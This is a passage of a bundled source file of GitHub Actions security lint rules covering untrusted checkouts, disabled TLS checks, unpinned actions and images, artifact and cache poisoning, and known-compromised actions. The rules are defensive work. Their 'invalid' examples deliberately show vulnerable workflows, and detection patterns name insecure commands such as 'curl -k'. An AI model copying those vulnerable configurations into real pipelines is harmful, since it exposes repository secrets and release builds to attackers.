    tags: ["actions", "secrets", "pull_request_target", "ci-untrusted-checkout"],
    references: ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"]
  },
  check(step, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(step, graph)), PRIVILEGED_UNTRUSTED_TRIGGERS);
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout || stepsOf(job, graph).indexOf(step) <= checkout.index) return;
    if (trigger === "issue_comment" && commenterChecked(job, checkout.step, graph)) return;
    const secret = allExpressions(step).find(({ expression }) => /\bsecrets\s*(?:\.|\[)/.test(expression) && !/\bsecrets\.GITHUB_TOKEN\b/i.test(expression));
    if (!secret) return;
    report({
      at: secret.path,
      range: secret.range,
      message: `\${{ ${secret.expression} }} is given to a step that runs after untrusted pull request code was checked out in this ${trigger} job`,
      related: [{ resource: checkout.step.id, at: checkout.checkout.at, message: `untrusted checkout (${checkout.checkout.what})` }]
    });
  },
  examples: {
    valid: [
      {
        name: "secret used before the checkout of the head",
        filename: ".github/workflows/label.yml",
        code: `on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: ./notify.sh
        env:
          SLACK_WEBHOOK: \${{ secrets.SLACK_WEBHOOK }}
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          path: head
`
      }
    ],
    invalid: [
      {
        name: "publishing a preview with a deploy token",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npx netlify deploy --dir site
        env:
          NETLIFY_AUTH_TOKEN: \${{ secrets.NETLIFY_AUTH_TOKEN }}
`,
        errors: [{ line: 11, column: 31, messageIncludes: "secrets.NETLIFY_AUTH_TOKEN" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/encryption/gha-tls-verification-disabled.ts
var INSECURE_TLS = [
  [/\bcurl\b[^\n|;&]*\s(?:-k|--insecure)\b/, "curl --insecure"],
  [/\bcurl\b[^\n|;&]*\s-[a-zA-Z]*k[a-zA-Z]*\b/, "curl -k"],
  [/\bwget\b[^\n|;&]*--no-check-certificate\b/, "wget --no-check-certificate"],
  [/\bgit\b[^\n]*http\.sslVerify[=\s]+false\b/i, "git http.sslVerify false"],
  [/\bGIT_SSL_NO_VERIFY=(?:1|true)\b/i, "GIT_SSL_NO_VERIFY"],
  [/\bNODE_TLS_REJECT_UNAUTHORIZED=["']?0\b/, "NODE_TLS_REJECT_UNAUTHORIZED=0"],
  [/\bnpm\s+config\s+set\s+strict-ssl\s+false\b/, "npm strict-ssl false"],
  [/\bpip3?\b[^\n]*--trusted-host\b/, "pip --trusted-host"],
  [/\bPYTHONHTTPSVERIFY=["']?0\b/, "PYTHONHTTPSVERIFY=0"]
];
var INSECURE_ENV = /* @__PURE__ */ new Map([
  ["NODE_TLS_REJECT_UNAUTHORIZED", /^0$/],
  ["GIT_SSL_NO_VERIFY", /^(?:1|true)$/i],
  ["PYTHONHTTPSVERIFY", /^0$/]
]);
var gha_tls_verification_disabled_default = defineRule({
  meta: {
    id: "gha-tls-verification-disabled",
    title: "TLS certificate verification disabled in a workflow",
    severity: "medium",
    category: "encryption",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "Turning off certificate checks (`curl -k`, `wget --no-check-certificate`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`) lets anyone on the network path impersonate the server: downloads can be replaced and credentials sent over that connection read, while the job still holds its token and secrets.",
    remediation: "Remove the switch; if the server uses a private certificate authority, trust that authority explicitly (`--cacert`, `NODE_EXTRA_CA_CERTS`, `http.sslCAInfo`).",
    precision: "high",
    cwe: ["CWE-295"],
    tags: ["actions", "tls", "encryption-in-transit"],
    references: ["https://curl.se/docs/sslcerts.html"]
  },
  check(resource, { report }) {
    const env = resource.attributes.env;
    if (isObject(env)) {
      for (const [name, value] of Object.entries(env)) {
        const insecure = INSECURE_ENV.get(name.toUpperCase());
        if (insecure && (typeof value === "string" || typeof value === "number" || typeof value === "boolean") && insecure.test(String(value))) {
          report({ at: ["env", name], message: `${name}=${String(value)} disables TLS certificate verification for ${resource.name}` });
        }
      }
    }
    if (resource.type !== "step") return;
    const script = runScript(resource);
    if (script === void 0) return;
    const found = INSECURE_TLS.find(([pattern]) => pattern.test(script));
    if (found) report({ at: ["run"], message: `the run script disables TLS certificate verification (${found[1]}), so downloads and credentials can be intercepted` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  fetch:
    runs-on: ubuntu-latest
    env:
      NODE_EXTRA_CA_CERTS: /etc/ssl/internal-ca.pem
    steps:
      - run: curl -fsSL --cacert internal-ca.pem -o tool.tgz https://artifacts.internal.example/tool.tgz
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  fetch:
    runs-on: ubuntu-latest
    env:
      NODE_TLS_REJECT_UNAUTHORIZED: "0"
    steps:
      - run: curl -fsSLk -o tool.tgz https://artifacts.internal.example/tool.tgz
`,
        errors: [
          { line: 6, column: 7, messageIncludes: "NODE_TLS_REJECT_UNAUTHORIZED" },
          { line: 8, column: 9, messageIncludes: "curl -k" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-action-not-pinned.ts
var gha_action_not_pinned_default = defineRule({
  meta: {
    id: "gha-action-not-pinned",
    title: "Action or reusable workflow not pinned to a commit SHA",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "`uses:` names a tag or a branch. Tags and branches move: whoever controls the action's repository (or steals its maintainer's token, as in the tj-actions/changed-files compromise) changes the code this workflow runs, with its secrets and token. Only a full 40-character commit SHA is immutable.",
    remediation: "Pin to the full commit SHA of the release and keep the version in a comment (`uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`); let Dependabot or Renovate update the pins. Owners you trust can be allowed with the rule option `trustedOwners`.",
    precision: "very-high",
    cwe: ["CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "pinning", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"]
  },
  check(resource, { report, options }) {
    const value = resource.attributes.uses;
    if (typeof value !== "string") return;
    const uses = parseUses(value);
    if (uses.kind !== "repository" && uses.kind !== "reusable-workflow") return;
    if (uses.ref !== void 0 && /^[0-9a-f]{40}$/i.test(uses.ref)) return;
    const trusted = Array.isArray(options.trustedOwners) ? options.trustedOwners.map((owner) => String(owner).toLowerCase()) : [];
    if (trusted.includes(uses.owner.toLowerCase())) return;
    const what = uses.ref === void 0 ? "has no ref at all" : `is pinned to the mutable ref "${uses.ref}"`;
    report({ at: ["uses"], message: `${value} ${what}; pin it to a full commit SHA` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: ./.github/actions/setup
      - uses: docker://alpine@sha256:56fa17d2a7e7f168a043a2712e63aed1f8543aeafdcee47c58dcffe38ed51099
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: some-org/deploy-action@main
  release:
    uses: some-org/workflows/.github/workflows/release.yml@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: '"v4"' },
          { line: 7, column: 9, messageIncludes: '"main"' },
          { line: 9, column: 5 }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-artifact-poisoning.ts
function downloadsForeignArtifact(step) {
  const name = actionName(step);
  if (name === "dawidd6/action-download-artifact" || name === "bettermarks/action-artifact-download") return true;
  if (name === "actions/download-artifact") return stepInput(step, "run-id") !== void 0;
  if (name === "actions/github-script") {
    const script2 = getPath(step.attributes, ["with", "script"]);
    return typeof script2 === "string" && /downloadArtifact|listWorkflowRunArtifacts/.test(script2);
  }
  const script = runScript(step);
  return script !== void 0 && /\bgh\s+run\s+download\b/.test(script);
}
function extractedOutsideWorkspace(step) {
  const path = stepInput(step, "path");
  return typeof path === "string" && /runner\.temp|RUNNER_TEMP/.test(path);
}
function usesArtifactUnsafely(step) {
  if (usesLocalAction(step)) return true;
  const script = runScript(step);
  if (script === void 0) return false;
  return /\bunzip\b|\btar\s+-?x|\bsource\b|(?:^|[\s;&|])\.\s+\S|(?:^|[\s;&|(])(?:ba)?sh\s+\S|\.\/[\w.-]+|\b(?:npm|yarn|pnpm|make|python3?|node|go|cargo|pip3?)\s|GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT|\$\(\s*cat\b/m.test(script);
}
var gha_artifact_poisoning_default = defineRule({
  meta: {
    id: "gha-artifact-poisoning",
    title: "workflow_run workflow uses artifacts from the triggering run unsafely",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "A `workflow_run` workflow runs with the repository's secrets after a `pull_request` run, whose artifacts the pull request's author fully controls. Downloading them into the workspace and then unzipping, sourcing or executing anything there lets the author overwrite scripts, inject environment variables or replace files that later steps trust (artifact poisoning).",
    remediation: "Download the artifact to `${{ runner.temp }}`, treat its content as untrusted data (validate numbers, never `source` it or write it to `$GITHUB_ENV`), and never run code from it.",
    precision: "medium",
    cwe: ["CWE-829", "CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "workflow_run", "artifacts", "ci-untrusted-checkout"],
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#workflow_run"
    ]
  },
  check(step, { report, graph }) {
    if (!triggersOf(workflowOf(step, graph)).has("workflow_run")) return;
    if (!downloadsForeignArtifact(step) || extractedOutsideWorkspace(step)) return;
    const job = jobOf(step, graph);
    if (!job) return;
    const steps = stepsOf(job, graph);
    const consumer = steps.slice(steps.indexOf(step) + 1).find(usesArtifactUnsafely);
    if (!consumer) return;
    report({
      at: step.attributes.uses !== void 0 ? ["uses"] : ["run"],
      message: `downloads an untrusted artifact of the triggering run into the workspace, and ${consumer.name} then unpacks or executes it (artifact poisoning)`,
      related: [{ resource: consumer.id, message: "uses the artifact" }]
    });
  },
  examples: {
    valid: [
      {
        name: "artifact read as data under runner.temp",
        filename: ".github/workflows/comment.yml",
        code: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093
        with:
          name: coverage
          run-id: \${{ github.event.workflow_run.id }}
          github-token: \${{ github.token }}
          path: \${{ runner.temp }}/coverage
      - run: jq '.total' "$RUNNER_TEMP/coverage/summary.json"
`
      }
    ],
    invalid: [
      {
        name: "artifact unzipped in the workspace and sourced",
        filename: ".github/workflows/deploy-preview.yml",
        code: `on:
  workflow_run:
    workflows: [Build]
    types: [completed]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: dawidd6/action-download-artifact@bf251b5aa9c2f7eeb574a96ee720e24f801b7c11
        with:
          run_id: \${{ github.event.workflow_run.id }}
          name: pr
      - run: |
          unzip pr.zip
          echo "PR_NUMBER=$(cat NR)" >> "$GITHUB_ENV"
`,
        errors: [{ line: 9, column: 9, messageIncludes: "artifact poisoning" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-cache-poisoning.ts
function releaseTrigger(workflow) {
  const triggers = triggersOf(workflow);
  if (triggers.has("release")) return "release";
  if (!triggers.has("push")) return void 0;
  const push = triggerConfig(workflow, "push");
  if (push?.tags !== void 0) return "push of tags";
  const branches = push?.branches;
  const names = typeof branches === "string" ? [branches] : Array.isArray(branches) ? branches : [];
  if (names.some((branch) => typeof branch === "string" && /^(?:main|master|release.*)$/.test(branch))) return "push to the default branch";
  return void 0;
}
var PUBLISHING_ACTIONS = /* @__PURE__ */ new Set([
  "pypa/gh-action-pypi-publish",
  "softprops/action-gh-release",
  "ncipollo/release-action",
  "goreleaser/goreleaser-action",
  "docker/build-push-action",
  "jreleaser/release-action",
  "changesets/action",
  "js-devtools/npm-publish",
  "cargo-bins/release-pr",
  "actions/attest-build-provenance"
]);
var PUBLISHING_COMMAND = /\b(?:npm|pnpm|yarn)\s+publish\b|\btwine\s+upload\b|\bcargo\s+publish\b|\bgem\s+push\b|\bdocker\s+push\b|\bgh\s+release\s+(?:create|upload)\b|\bpoetry\s+publish\b|\buv\s+publish\b|\bmvn\b[^\n]*\bdeploy\b|\bgradlew?\b[^\n]*\bpublish\b|\bdotnet\s+nuget\s+push\b|\bgoreleaser\s+release\b/;
function publishes(step) {
  const name = actionName(step);
  if (name && PUBLISHING_ACTIONS.has(name)) return name !== "docker/build-push-action" || isTrue2(getPath(step.attributes, ["with", "push"]));
  const script = runScript(step);
  return script !== void 0 && PUBLISHING_COMMAND.test(script);
}
function restoresCache(step) {
  const name = actionName(step);
  if (!name) return void 0;
  if (name === "actions/cache" || name === "actions/cache/restore" || name === "swatinem/rust-cache") return { at: ["uses"], what: name };
  const input = (key) => getPath(step.attributes, ["with", key]);
  const enabled = (key) => {
    const value = input(key);
    return typeof value === "string" && value.trim() !== "" && !isFalse2(value) || value === true;
  };
  if (["actions/setup-node", "actions/setup-python", "actions/setup-java"].includes(name) && enabled("cache")) return { at: ["with", "cache"], what: `${name} with cache` };
  if (name === "actions/setup-go" && !isFalse2(input("cache"))) return { at: input("cache") === void 0 ? ["uses"] : ["with", "cache"], what: "actions/setup-go (caches by default)" };
  if (name === "astral-sh/setup-uv" && enabled("enable-cache")) return { at: ["with", "enable-cache"], what: "astral-sh/setup-uv with enable-cache" };
  if (name === "ruby/setup-ruby" && isTrue2(input("bundler-cache"))) return { at: ["with", "bundler-cache"], what: "ruby/setup-ruby with bundler-cache" };
  if ((name === "gradle/actions/setup-gradle" || name === "gradle/gradle-build-action") && input("cache-read-only") === void 0 && !isTrue2(input("cache-disabled"))) {
    return { at: ["uses"], what: `${name} (caches by default)` };
  }
  return void 0;
}
var gha_cache_poisoning_default = defineRule({
  meta: {
    id: "gha-cache-poisoning",
    title: "Release job restores a cache that other workflows can write",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "GitHub Actions caches are shared across the workflows of a branch, and a default-branch cache is visible to every branch. A workflow that runs untrusted code (a `pull_request_target` job, a compromised dependency in a test job) can write a poisoned cache entry that this release job then restores, so that the published artifact contains the attacker's code.",
    remediation: "Do not restore caches in jobs that build or publish releases: build from a clean state, or use `actions/cache/restore` only with keys that untrusted workflows cannot create, and set `cache: ''` / `cache: false` on setup actions there.",
    precision: "medium",
    cwe: ["CWE-349", "CWE-829"],
    tags: ["actions", "cache-poisoning", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/caching-dependencies-to-speed-up-workflows#restrictions-for-accessing-a-cache",
      "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/"
    ]
  },
  check(step, { report, graph }) {
    const cache = restoresCache(step);
    if (!cache) return;
    const trigger = releaseTrigger(workflowOf(step, graph));
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const steps = stepsOf(job, graph);
    const publisher = steps.slice(steps.indexOf(step) + 1).find(publishes);
    if (!publisher) return;
    report({
      at: cache.at,
      message: `${cache.what} restores a cache in a job that publishes (${publisher.name}) on ${trigger}: a poisoned cache entry ends up in the release`,
      related: [{ resource: publisher.id, message: "publishes the build" }]
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  release:
    types: [published]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
        with:
          node-version: 22
      - run: npm ci && npm publish
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  push:
    tags: ["v*"]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
        with:
          node-version: 22
          cache: npm
      - run: npm ci && npm publish
`,
        errors: [{ line: 12, column: 11, messageIncludes: "publish" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-comment-triggered-checkout.ts
var gha_comment_triggered_checkout_default = defineRule({
  meta: {
    id: "gha-comment-triggered-checkout",
    title: "Comment-triggered workflow checks out pull request code for any commenter",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "An `issue_comment` workflow runs in the base repository with its secrets and a writable token, and anyone who can comment can trigger it. Checking out the pull request's code without first checking that the commenter is a maintainer lets any user run a fork's code with those privileges by posting a comment such as `/test`.",
    remediation: `Gate the job on the commenter: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)\`, or check the commenter's permission through the API before checking out. Better still, let the comment add a label or dispatch a workflow that runs without secrets.`,
    precision: "medium",
    cwe: ["CWE-829", "CWE-284"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "issue_comment", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#issue_comment",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(step, { report, graph }) {
    const triggers = triggersOf(workflowOf(step, graph));
    if (!triggers.has("issue_comment") || triggers.has("pull_request_target") || triggers.has("workflow_run")) return;
    const job = jobOf(step, graph);
    const checkout = untrustedCheckout(step);
    if (!job || !checkout || commenterChecked(job, step, graph)) return;
    report({
      at: checkout.at,
      message: `this issue_comment workflow checks out the pull request head (${checkout.what}) for any commenter, without checking author_association or permission`
    });
  },
  examples: {
    valid: [
      {
        name: "maintainers only",
        filename: ".github/workflows/retest.yml",
        code: `on: issue_comment
jobs:
  retest:
    if: >-
      github.event.issue.pull_request &&
      contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/head
      - run: make test
`
      }
    ],
    invalid: [
      {
        name: "any commenter",
        filename: ".github/workflows/retest.yml",
        code: `on:
  issue_comment:
    types: [created]
jobs:
  retest:
    if: github.event.issue.pull_request && startsWith(github.event.comment.body, '/retest')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/merge
      - run: make test
`,
        errors: [{ line: 11, column: 11, messageIncludes: "issue_comment" }]
      }
    ]
  }
});

// packages/rules/src/support/action-advisories.ts
var COMPROMISED_ACTIONS = [
  {
    action: "tj-actions/changed-files",
    id: "CVE-2025-30066 (GHSA-mrrh-fwg8-r2c3)",
    summary: "tags up to v45.0.7 were repointed to a commit that printed the runner's secrets to the workflow log",
    fixed: "46.0.1",
    commits: ["0e58ed8671d6b60d0890c21b07f8835ace038e67"]
  },
  {
    action: "reviewdog/action-setup",
    id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)",
    summary: "the v1 tag pointed to a commit that printed the runner's secrets to the workflow log",
    tags: ["v1"],
    commits: ["f0d342d24037bb11d26b9bd8496e0808ba32e9ec"]
  },
  { action: "reviewdog/action-shellcheck", id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)", summary: "ran the compromised reviewdog/action-setup@v1", fixed: "1.29.2" },
  { action: "reviewdog/action-composite-template", id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)", summary: "ran the compromised reviewdog/action-setup@v1", fixed: "0.20.2" },
  { action: "reviewdog/action-staticcheck", id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)", summary: "ran the compromised reviewdog/action-setup@v1", fixed: "1.26.2" },
  { action: "reviewdog/action-ast-grep", id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)", summary: "ran the compromised reviewdog/action-setup@v1", fixed: "1.26.2" },
  { action: "reviewdog/action-typos", id: "CVE-2025-30154 (GHSA-qmg3-hpqr-gqvc)", summary: "ran the compromised reviewdog/action-setup@v1", fixed: "1.17.2" }
];
var VULNERABLE_ACTIONS = [
  {
    action: "kartverket/github-workflows/.github/workflows/run-terraform.yml",
    id: "CVE-2022-39326 (GHSA-f9qj-7gh3-mhj4)",
    summary: "a pull request could run arbitrary code through terraform plan",
    fixed: "2.7.5"
  }
];
function versionOf(ref) {
  const match = /^v?(\d+(?:\.\d+){0,2})$/i.exec(ref.trim());
  return match ? match[1].split(".").map(Number) : void 0;
}
function allBelow(ref, fixed) {
  const version = versionOf(ref);
  const bound = versionOf(fixed);
  if (!version || !bound) return false;
  for (let index = 0; index < 3; index++) {
    const part = version[index] ?? Number.POSITIVE_INFINITY;
    const limit = bound[index] ?? 0;
    if (part < limit) return true;
    if (part > limit) return false;
  }
  return false;
}
function advisoryFor(list, action, ref) {
  if (ref === void 0) return void 0;
  const name = action.toLowerCase();
  return list.find(
    (advisory) => advisory.action === name && (advisory.tags?.some((tag) => tag.toLowerCase() === ref.toLowerCase()) || advisory.commits?.includes(ref.toLowerCase()) || advisory.fixed !== void 0 && allBelow(ref, advisory.fixed))
  );
}

// packages/rules/src/github-actions/supply-chain/gha-compromised-action.ts
var gha_compromised_action_default = defineRule({
  meta: {
    id: "gha-compromised-action",
    title: "Action version known to have been compromised",
    severity: "critical",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "The action is referenced at a version or commit that an attacker took over, such as the tj-actions/changed-files and reviewdog/action-setup tags moved in March 2025 to code that printed every secret of the job into its public log. A workflow that ran it must assume its secrets are leaked; one that still references it is trusting a ref the maintainers have disowned.",
    remediation: "Upgrade to the first release after the incident (tj-actions/changed-files 46.0.1 or later) pinned by commit SHA, or replace the action. Rotate every secret the workflow could read while the compromised version was in use and check past run logs for leaked values.",
    precision: "very-high",
    cwe: ["CWE-506", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies", "Vulnerabilities"] },
    tags: ["actions", "compromised", "vulnerable-component"],
    references: [
      "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
      "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-tj-actionschanged-files-cve-2025-30066-and-reviewdogaction"
    ]
  },
  check(resource, { report }) {
    const target = remoteTarget(resource);
    if (!target) return;
    const advisory = advisoryFor(COMPROMISED_ACTIONS, target.name, target.ref);
    if (!advisory) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} is a known-compromised version, ${advisory.id}: ${advisory.summary}` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/changes.yml",
        code: `on: pull_request
jobs:
  changes:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@2f7c5bfce28377bc069a65ba478de0a74aa0ca32
      - uses: tj-actions/changed-files@v46
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/changes.yml",
        code: `on: pull_request
jobs:
  changes:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@v44
      - uses: reviewdog/action-setup@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "CVE-2025-30066" },
          { line: 7, column: 9, messageIncludes: "CVE-2025-30154" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-container-image-not-pinned.ts
function imageOf(value) {
  if (typeof value === "string") return { image: value, at: [] };
  if (isObject(value) && typeof value.image === "string") return { image: value.image, at: ["image"] };
  return void 0;
}
var gha_container_image_not_pinned_default = defineRule({
  meta: {
    id: "gha-container-image-not-pinned",
    title: "Job container, service or docker action image not pinned to a digest",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job", "step"],
    description: "A job's `container:`, its `services:` and `docker://` steps pull images by tag. Tags can be pushed again, so whoever controls the image (or its registry account) changes the code that runs with the job's token and secrets, without any change to the workflow.",
    remediation: "Reference images by digest, keeping the tag for readers: `image: node:20.11-bookworm@sha256:…`; let Dependabot or Renovate update digests.",
    precision: "very-high",
    cwe: ["CWE-829", "CWE-1357"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "containers", "pinning", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idcontainer"]
  },
  check(resource, { report }) {
    const check = (image, at, what) => {
      if (image.includes("${{") || image.includes("@sha256:")) return;
      report({ at, message: `${what} image ${image} is not pinned to a digest (tag ${image.includes(":") ? "can move" : "missing, so latest"})` });
    };
    if (resource.type === "step") {
      const uses = resource.attributes.uses;
      if (typeof uses === "string" && parseUses(uses).kind === "docker") check(uses.slice("docker://".length), ["uses"], "docker action");
      return;
    }
    const container = imageOf(resource.attributes.container);
    if (container) check(container.image, ["container", ...container.at], "job container");
    const services = resource.attributes.services;
    if (isObject(services)) {
      for (const [name, service] of Object.entries(services)) {
        const found = imageOf(service);
        if (found) check(found.image, ["services", name, ...found.at], `service "${name}"`);
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container:
      image: node:20-bookworm@sha256:9b2a6f2b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f
    services:
      db:
        image: \${{ matrix.database }}
    steps:
      - uses: docker://alpine@sha256:56fa17d2a7e7f168a043a2712e63aed1f8543aeafdcee47c58dcffe38ed51099
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container: node:20-bookworm
    services:
      postgres:
        image: postgres:16
    steps:
      - uses: docker://ghcr.io/acme/linter
`,
        errors: [
          { line: 5, column: 5, messageIncludes: "node:20-bookworm" },
          { line: 8, column: 9, messageIncludes: "postgres:16" },
          { line: 10, column: 9, messageIncludes: "latest" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-deprecated-action-version.ts
var FIRST_SUPPORTED_MAJOR = /* @__PURE__ */ new Map([
  ["actions/checkout", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/upload-artifact", { major: 4, why: "uses the artifact service GitHub retired in 2025" }],
  ["actions/download-artifact", { major: 4, why: "uses the artifact service GitHub retired in 2025" }],
  ["actions/cache", { major: 4, why: "runs on an end-of-life Node.js runtime or a retired cache service" }],
  ["actions/setup-node", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-python", { major: 5, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-java", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-go", { major: 5, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/github-script", { major: 7, why: "runs on an end-of-life Node.js runtime" }]
]);
var ARCHIVED = /* @__PURE__ */ new Set(["actions/create-release", "actions/upload-release-asset", "actions/setup-ruby", "actions/setup-elixir", "actions/setup-haskell"]);
var gha_deprecated_action_version_default = defineRule({
  meta: {
    id: "gha-deprecated-action-version",
    title: "Deprecated or archived action version",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The step uses a major version of an official action that is deprecated (it runs on an end-of-life Node.js runtime or calls a retired service) or an action that is archived. Such versions get no security fixes, and GitHub forces or breaks them over time.",
    remediation: "Upgrade to the current major version of the action (or its maintained replacement) and pin it by commit SHA.",
    precision: "high",
    cwe: ["CWE-1104"],
    tags: ["actions", "deprecated-version"],
    references: ["https://github.blog/changelog/2024-03-07-github-actions-all-actions-will-run-on-node20-instead-of-node16-by-default/"]
  },
  check(step, { report }) {
    const target = remoteTarget(step);
    if (!target) return;
    if (ARCHIVED.has(target.name)) {
      report({ at: ["uses"], message: `${target.name} is archived and unmaintained (deprecated); use a maintained replacement` });
      return;
    }
    const supported = FIRST_SUPPORTED_MAJOR.get(target.name);
    const major = target.ref !== void 0 ? /^v(\d+)(?:\.\d+){0,2}$/.exec(target.ref)?.[1] : void 0;
    if (!supported || major === void 0 || Number(major) >= supported.major) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} is a deprecated major version that ${supported.why}; upgrade to v${supported.major} or later` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v2
